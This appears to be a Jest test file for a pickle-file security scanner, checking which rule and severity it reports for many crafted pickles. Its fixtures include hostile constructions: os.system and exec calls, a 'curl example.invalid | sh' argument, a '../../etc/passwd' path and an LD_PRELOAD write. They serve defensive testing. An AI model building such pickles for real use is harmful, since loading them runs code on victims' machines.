import { describe, expect, it } from '@jest/globals';
import type { Severity } from '../../../src/core/types.js';
import { inspectPickle } from '../../support/inspect-pickle.js';
import { pickle, type PickleAssembler } from '../../support/pickle-assembler.js';

type Row = readonly [what: string, severity: Severity | 'silent', rule: string, assembler: PickleAssembler];

/** The worst finding of a pickle, as `severity rule`. */
function verdict(assembler: PickleAssembler): string {
  const { findings } = inspectPickle(assembler.assemble());
  const order: readonly Severity[] = ['critical', 'warning', 'info'];
  const worst = order.find((severity) => findings.some((finding) => finding.severity === severity));
  if (worst === undefined) return 'silent';
  return `${worst} ${findings.find(({ severity }) => severity === worst)?.ruleId.slice('pickle/'.length) ?? ''}`;
}

const check = (rows: readonly Row[]): void => {
  it.each(rows)('%s: %s %s', (_, severity, rule, assembler) => {
    expect(verdict(assembler)).toBe(severity === 'silent' ? 'silent' : `${severity} ${rule}`);
  });
};

const p = (): PickleAssembler => pickle().proto(4);
const object = (module: string, name: string): PickleAssembler =>
  p().global(module, name).emptyTuple().newobj();

describe('referenced or held as a value', () => {
  check([
    ['inert', 'silent', '', p().global('collections', 'OrderedDict').stop()],
    ['rebuild', 'silent', '', p().global('torch._utils', '_rebuild_tensor_v2').stop()],
    ['pure function', 'silent', '', p().global('numpy', 'log1p').stop()],
    ['library class', 'silent', '', p().global('torch.nn.modules.conv', 'Conv2d').stop()],
    ['carrier', 'silent', '', p().global('functools', 'partial').stop()],
    [
      'member of a library class',
      'silent',
      '',
      p().global('scipy.interpolate._interpolate', 'interp1d._call_linear_np').stop(),
    ],
    ['foreign class', 'info', 'foreign-class', p().global('my_package.models', 'Net').stop()],
    ['foreign function', 'info', 'foreign-class', p().global('my_package', 'helper').stop()],
    [
      'unlisted of the standard library',
      'warning',
      'unlisted-callable',
      p().global('textwrap', 'dedent').stop(),
    ],
    ['unlisted of a vetted package', 'warning', 'unlisted-callable', p().global('numpy', 'brand_new').stop()],
    ['forbidden', 'critical', 'dangerous-import', p().global('posix', 'system').stop()],
    [
      'forbidden by package',
      'critical',
      'dangerous-import',
      p().global('picklescan.scanner', 'Scanner').stop(),
    ],
    ['a dunder', 'critical', 'dangerous-import', p().global('json', '__builtins__').stop()],
    [
      'a walk through a module (P-22)',
      'critical',
      'dangerous-import',
      p().global('pathlib', 'os.system').stop(),
    ],
    [
      'a module that another one imported (P-23)',
      'critical',
      'dangerous-import',
      p().global('random', '_os').stop(),
    ],
    [
      'a Python 2 name (P-60)',
      'critical',
      'dangerous-import',
      pickle().global('commands', 'getoutput').stop(),
    ],
    [
      'a module that acts when imported (P-21)',
      'critical',
      'dangerous-import',
      p().global('antigravity', 'x').stop(),
    ],
  ]);
});

describe('called', () => {
  const argument = (module: string, name: string, text: string): PickleAssembler =>
    p().global(module, name).unicode(text).tuple1().reduce().stop();
  check([
    ['inert with data', 'silent', '', p().global('datetime', 'timedelta').int(1).tuple1().reduce().stop()],
    [
      'rebuild that keeps its schema',
      'silent',
      '',
      p()
        .global('numpy.core.multiarray', '_reconstruct')
        .global('numpy', 'ndarray')
        .int(0)
        .tuple1()
        .bytes(Buffer.from('b'))
        .tuple3()
        .reduce()
        .stop(),
    ],
    [
      'rebuild of something else',
      'critical',
      'unexpected-arguments',
      p()
        .global('numpy.core.multiarray', '_reconstruct')
        .unicode('os')
        .int(0)
        .tuple1()
        .int(0)
        .tuple3()
        .reduce()
        .stop(),
    ],
    ['pure function', 'info', 'library-call', p().global('numpy', 'log1p').int(1).tuple1().reduce().stop()],
    [
      'library class of a table with a short word',
      'silent',
      '',
      argument('torch.nn.modules.conv', 'Conv2d', 'same'),
    ],
    [
      'library class that only looks like one, with a short word',
      'info',
      'library-call',
      argument('torch.nn.modules.conv', 'Conv9d', 'same'),
    ],
    [
      'class of a package that evaluates texts',
      'critical',
      'library-call',
      argument('sympy.core.add', 'Add', 'x'),
    ],
    ['name of such a package', 'silent', '', argument('sympy.core.symbol', 'Symbol', 'x')],
    [
      'library class with an address',
      'critical',
      'library-call',
      argument('torch.nn.modules.conv', 'Conv2d', 'https://example.invalid/x'),
    ],
    [
      'library class with a long text',
      'warning',
      'library-call',
      argument('torch.nn.modules.conv', 'Conv2d', 'w'.repeat(300)),
    ],
    ['foreign class with a short word', 'info', 'foreign-class', argument('my_package', 'Net', 'small')],
    [
      'foreign class with a command',
      'critical',
      'foreign-call',
      argument('my_package', 'Net', 'curl example.invalid | sh'),
    ],
    ['foreign function', 'warning', 'foreign-call', argument('my_package', 'helper', 'small')],
    ['method of a foreign class', 'warning', 'foreign-call', argument('my_package', 'Net.helper', 'small')],
    [
      'foreign function that says it runs code',
      'critical',
      'foreign-call',
      argument('my_package', 'run_command', 'x'),
    ],
    [
      'method that says it imports what it is told',
      'critical',
      'foreign-call',
      argument('my_package', 'Registry._import_string', 'x'),
    ],
    [
      'such a function, of a number',
      'warning',
      'foreign-call',
      p().global('my_package', 'run_command').int(1).tuple1().reduce().stop(),
    ],
    [
      'a class with such a name, made without its constructor',
      'warning',
      'foreign-call',
      p().stackGlobal('my_package', 'system').emptyTuple().newobj().stop(),
    ],
    [
      'a member of a foreign enumeration',
      'info',
      'foreign-class',
      p().stackGlobal('my_package', 'Mode.train').stop(),
    ],
    [
      'a value of a package that connects',
      'info',
      'foreign-class',
      p().stackGlobal('psycopg2.tz', 'FixedOffsetTimezone').int(60).none().tuple2().reduce().stop(),
    ],
    [
      'such a function, held and not called',
      'info',
      'foreign-class',
      p().global('my_package', 'run_command').stop(),
    ],
    [
      'foreign function with a path that climbs',
      'critical',
      'foreign-call',
      argument('my_package', 'helper', '../../etc/passwd'),
    ],
    ['unlisted', 'critical', 'unlisted-callable', argument('textwrap', 'dedent', 'x')],
    ['forbidden', 'critical', 'dangerous-call', argument('builtins', 'exec', 'pass')],
    [
      'a forbidden class under the name that the package gives it',
      'critical',
      'dangerous-call',
      argument('torch', 'PyTorchFileWriter', 'model.bin'),
    ],
    [
      'what a call gave back',
      'critical',
      'computed-name',
      p().global('collections', 'OrderedDict').emptyTuple().reduce().emptyTuple().reduce().stop(),
    ],
    ['an extension code (P-14)', 'critical', 'computed-name', p().raw(0x82, 7).emptyTuple().reduce().stop()],
    [
      'a codec of the file’s choice',
      'critical',
      'unexpected-arguments',
      p().global('_codecs', 'encode').unicode('flf').unicode('rot13').tuple2().reduce().stop(),
    ],
  ]);
});

describe('called with a callable', () => {
  const give = (module: string, name: string, other: string, attribute: string): PickleAssembler =>
    p().global(module, name).global(other, attribute).tuple1().reduce().stop();
  check([
    ['carrier of a type', 'silent', '', give('collections', 'defaultdict', 'builtins', 'list')],
    ['carrier of a library class', 'silent', '', give('functools', 'partial', 'torch.optim.adam', 'Adam')],
    [
      'carrier of a foreign function',
      'warning',
      'foreign-call',
      give('functools', 'partial', 'my_package', 'helper'),
    ],
    [
      'carrier of an unlisted function',
      'critical',
      'unlisted-callable',
      give('builtins', 'map', 'textwrap', 'dedent'),
    ],
    ['carrier of a forbidden one', 'critical', 'dangerous-call', give('builtins', 'map', 'os', 'system')],
    [
      'inert with a forbidden one inside a list',
      'critical',
      'dangerous-call',
      p().global('collections', 'deque').emptyList().global('os', 'system').append().tuple1().reduce().stop(),
    ],
    [
      'a partial that is called',
      'critical',
      'dangerous-call',
      p()
        .global('functools', 'partial')
        .global('os', 'system')
        .tuple1()
        .reduce()
        .unicode('echo hello')
        .tuple1()
        .reduce()
        .stop(),
    ],
    [
      'foreign function with a forbidden one',
      'critical',
      'dangerous-call',
      give('my_package', 'helper', 'os', 'system'),
    ],
  ]);

  it('is told once, about the callable and with the call that hands it on', () => {
    const { findings } = inspectPickle(give('builtins', 'map', 'os', 'system').assemble());
    expect(findings.map(({ message }) => message)).toEqual([
      'Loading this file hands os.system on to be called in builtins.map(os.system): it starts a program',
    ]);
  });
});

describe('BUILD, APPEND, SETITEM and ADDITEMS', () => {
  const state = (target: PickleAssembler, key: string, module: string, name: string): PickleAssembler =>
    target.emptyDict().unicode(key).global(module, name).setitem().build().stop();
  check([
    [
      'plain state',
      'silent',
      '',
      p()
        .global('collections', 'OrderedDict')
        .emptyTuple()
        .reduce()
        .emptyDict()
        .unicode('a')
        .int(1)
        .setitem()
        .build()
        .stop(),
    ],
    [
      'a pure function in the state',
      'silent',
      '',
      state(
        object('sklearn.preprocessing._function_transformer', 'FunctionTransformer'),
        'func',
        'numpy',
        'log1p',
      ),
    ],
    [
      'a foreign function in the state',
      'warning',
      'foreign-call',
      state(
        object('sklearn.preprocessing._function_transformer', 'FunctionTransformer'),
        'func',
        'my_package',
        'helper',
      ),
    ],
    [
      'an unlisted function in the state',
      'critical',
      'unlisted-callable',
      state(object('sklearn.x', 'Thing'), 'func', 'textwrap', 'dedent'),
    ],
    [
      'a planted __setstate__ (P-10)',
      'critical',
      'planted-callable',
      state(object('argparse', 'Namespace'), '__setstate__', 'numpy', 'log1p'),
    ],
    [
      'a planted append (P-11)',
      'critical',
      'planted-callable',
      state(object('types', 'SimpleNamespace'), 'append', 'builtins', 'map'),
    ],
    [
      'a planted method of a model',
      'critical',
      'planted-callable',
      state(object('torch.nn.modules.conv', 'Conv2d'), 'forward', 'my_package', 'helper'),
    ],
    [
      'a function itself (P-09)',
      'critical',
      'patched-object',
      p().global('json', 'dumps').emptyDict().build().stop(),
    ],
    [
      'an item of the environment (P-13)',
      'critical',
      'patched-object',
      p().global('os', 'environ').unicode('LD_PRELOAD').unicode('x').setitem().stop(),
    ],
    [
      'items of an ordered dictionary',
      'silent',
      '',
      p().global('collections', 'OrderedDict').emptyTuple().reduce().unicode('a').int(1).setitem().stop(),
    ],
    [
      'items of a deque',
      'silent',
      '',
      p().global('collections', 'deque').emptyTuple().reduce().int(1).append().stop(),
    ],
    [
      'items added to what a foreign class made',
      'info',
      'foreign-class',
      object('my_package', 'Bag').mark().int(1).additems().stop(),
    ],
    [
      'a persistent id of torch',
      'silent',
      '',
      p()
        .mark()
        .unicode('storage')
        .global('torch', 'FloatStorage')
        .unicode('0')
        .unicode('cpu')
        .int(4)
        .tuple()
        .raw('Q')
        .stop(),
    ],
    [
      'a persistent id that holds a function',
      'critical',
      'dangerous-call',
      p().global('os', 'system').raw('Q').stop(),
    ],
  ]);
});

describe('a finding', () => {
  it('reconstructs the call, names byte and opcode, and tells the way there', () => {
    const { findings } = inspectPickle(
      pickle().global('posix', 'system').unicode('echo hello').tuple1().reduce().stop().assemble(),
    );
    expect(findings).toEqual([
      expect.objectContaining({
        ruleId: 'pickle/dangerous-call',
        message: "Loading this file runs posix.system('echo hello'): it starts a program",
        key: 'posix.system',
        count: 1,
        data: expect.objectContaining({
          module: 'posix',
          function: 'system',
          opcode: 'REDUCE',
          position: 30,
          expression: "posix.system('echo hello')",
        }) as object,
      }),
    ]);
    expect(findings[0]?.trace?.map(({ note }) => note)).toEqual([
      'imports posix.system',
      "runs posix.system('echo hello')",
    ]);
  });

  it('names both spellings of a Python 2 name', () => {
    const { findings } = inspectPickle(
      pickle().global('commands', 'getoutput').unicode('id').tuple1().reduce().stop().assemble(),
    );
    expect(findings[0]?.message).toBe(
      "Loading this file runs commands.getoutput('id'); commands.getoutput (that is subprocess.getoutput): it starts a program",
    );
  });

  it('says of a torch file whether weights_only would refuse it', () => {
    const [finding] = inspectPickle(
      pickle().global('posix', 'system').emptyTuple().reduce().stop().assemble(),
      'torch',
    ).findings;
    expect(finding?.message).toContain('torch.load(weights_only=True) would refuse it');
  });

  it('tells a partial planted as a method, though the same partial stood elsewhere before', () => {
    const give = (key: string, assembler: PickleAssembler): PickleAssembler => {
      assembler
        .emptyDict()
        .unicode(key)
        .global('functools', 'partial')
        .global('my_package', 'f')
        .tuple1()
        .reduce()
        .setitem()
        .build();
      return assembler;
    };
    const assembler = give('forward', give('a', object('torch.nn.modules.conv', 'Conv2d')));
    expect(verdict(assembler.stop())).toBe('critical planted-callable');
  });

  it('says of a torch file that an id which only begins like a storage is unusual (P-15)', () => {
    const odd = pickle()
      .proto(2)
      .mark()
      .unicode('storage')
      .unicode('FloatStorage')
      .unicode('0')
      .tuple()
      .raw('Q')
      .stop();
    const { findings } = inspectPickle(odd.assemble(), 'torch');
    expect(findings.map(({ ruleId, severity }) => [ruleId, severity])).toEqual([
      ['pickle/persistent-id', 'warning'],
    ]);
  });

  it('shows a text of protocol 0 whole', () => {
    const [finding] = inspectPickle(
      pickle().global('os', 'system').stringLine("'echo hello'").tuple1().reduce().stop().assemble(),
    ).findings;
    expect(finding?.message).toBe("Loading this file runs os.system('echo hello'): it starts a program");
  });

  it('stands for a thousand calls of one callable', () => {
    const assembler = p();
    for (let index = 0; index < 1000; index++)
      assembler
        .global('os', 'system')
        .unicode(`echo ${String(index)}`)
        .tuple1()
        .reduce()
        .pop();
    const { findings } = inspectPickle(assembler.none().stop().assemble());
    expect(findings.map(({ ruleId, count }) => [ruleId, count])).toEqual([['pickle/dangerous-call', 1000]]);
  });

  it('lists the classes of a package once', () => {
    const { findings } = inspectPickle(
      p().global('my_package', 'A').pop().global('my_package', 'B').stop().assemble(),
    );
    expect(findings.map(({ message }) => message)).toEqual([
      'Loading this file needs 2 names of my_package: my_package.A, my_package.B. Name my_package in trusted-packages if it is yours',
    ]);
  });
});

describe('what a finding says', () => {
  const message = (assembler: PickleAssembler, profile?: string): string =>
    inspectPickle(assembler.assemble(), profile)
      .findings.map((finding) => finding.message)
      .join();

  it('masks secrets in the reconstructed call', () => {
    const token = `hf_${'a'.repeat(34)}`;
    const shown = message(p().global('posix', 'system').unicode(`login ${token}`).tuple1().reduce().stop());
    expect(shown).toContain("posix.system('login hf_***')");
    expect(shown).not.toContain(token);
  });

  it('is bounded, whatever the call is given', () => {
    const shown = message(
      p().global('posix', 'system').unicode('x'.repeat(100_000)).tuple1().reduce().stop(),
    );
    expect(shown.length).toBeLessThan(800);
  });

  it('tells whether weights_only would refuse the file', () => {
    const call = p().global('posix', 'system').unicode('x').tuple1().reduce().stop();
    expect(message(call, 'torch')).toContain('torch.load(weights_only=True) would refuse it');
    const rebuilt = p().global('torch._utils', '_rebuild_tensor_v2').unicode('x').tuple1().reduce().stop();
    expect(message(rebuilt, 'torch')).toContain('torch.load(weights_only=True) would let it pass');
  });

  it('traces the call back to its import, opcode by opcode', () => {
    const { findings } = inspectPickle(
      p().global('posix', 'system').unicode('x').tuple1().reduce().stop().assemble(),
    );
    expect(findings[0]?.trace?.map(({ logical, note }) => [logical, note])).toEqual([
      ['opcode GLOBAL', 'imports posix.system'],
      ['opcode REDUCE', "runs posix.system('x')"],
    ]);
  });
});
